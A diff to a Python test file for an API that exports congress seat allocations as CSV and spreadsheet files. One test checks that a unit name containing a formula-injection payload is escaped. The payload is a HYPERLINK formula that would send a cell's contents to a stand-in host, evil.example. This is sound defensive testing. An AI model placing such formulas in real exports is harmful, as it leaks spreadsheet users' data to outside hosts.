@@ -154,7 +154,9 @@ async def test_the_seats_come_as_a_table_too(client: Client, congress: Json) -> 
     assert table.headers["content-type"].startswith("text/csv")
     lines = table.content.decode("utf-8-sig").splitlines()
     assert len(lines) == 1 + 68
-    assert any("Huyện Châu Thành" in line for line in lines)
+    (line,) = [line for line in lines if line.startswith("huyen-chau-thanh;Huyện Châu Thành;")]
+    assert ";Đại diện các tập thể và cá nhân là các gương điển hình tiên tiến;Khối các huyện" in line
+    assert ";Dân số;95188;7,58936;" in line
     book = await client.get(
         path, headers={"Accept": "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"}
     )
@@ -170,7 +172,8 @@ async def test_a_unit_that_calls_itself_a_formula_is_a_name_in_every_table(
     await report(client, made.json()["id"], staff=100)
     path = f"/v1/allocations/{(await compute_allocation(client, congress)).json()['id']}/seats"
     table = (await client.get(path, headers={"Accept": CSV})).content
-    (cell,) = [row[1] for row in csv.reader(table.decode("utf-8-sig").splitlines()) if "evil" in row[1]]
+    rows = csv.reader(table.decode("utf-8-sig").splitlines(), delimiter=";")
+    (cell,) = [row[1] for row in rows if "evil" in row[1]]
     assert cell == '\'=HYPERLINK("https://evil.example?"&B2,"x");\'@SUM(A1)'
     assert unescape_formulas(cell) == name
     book = (await client.get(path, headers={"Accept": XLSX})).content
